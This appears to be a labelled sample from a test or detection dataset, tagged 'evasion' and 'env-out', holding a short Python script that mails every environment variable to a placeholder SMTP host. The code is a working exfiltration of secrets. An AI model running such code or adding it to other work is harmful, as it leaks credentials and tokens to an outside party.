# evasion: the environment mailed with smtplib
# grade: medium; does: env-out
import os, smtplib
with smtplib.SMTP("mail.example") as s:
    s.sendmail("a@example", ["b@example"], "\n".join(f"{k}={v}" for k, v in os.environ.items()))
